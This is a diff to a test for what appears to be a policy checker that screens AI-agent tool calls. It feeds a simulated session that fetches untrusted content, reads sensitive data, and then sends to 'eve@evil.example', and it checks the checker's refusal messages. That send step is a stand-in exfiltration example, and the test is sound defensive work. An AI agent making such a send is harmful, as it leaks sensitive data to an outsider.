@@ -169,7 +169,7 @@ def check_text_says_why_nothing_was_vouched(t):
     steps = [FETCH, READ, {"tool": "t.send", "args": {"to": "eve@evil.example"}}, more, POST, {"tool": "far.note"}, {"tool": "t.none"}]
     run = Run("check", "--policy", policy, stdin=sessions({"steps": steps})).exits(1)
     for text in ("the session has untrusted from t.fetch (call 1), sensitive from t.read (call 2)\n",
-                 "not vouched: argument `to`: an email is not listed for what this session holds\n", "a human could release it once\n",
+                 "not vouched: argument `to`: an email is not listed for what this session holds", "a human could release it once\n",
                  "not vouched: the call names no destination that the entry declares\n",
                  "its way out is standing, so no human can release it\n", "not vouched: the server is outside", "the policy has no entry for this tool\n"):
         run.says(text, "out")
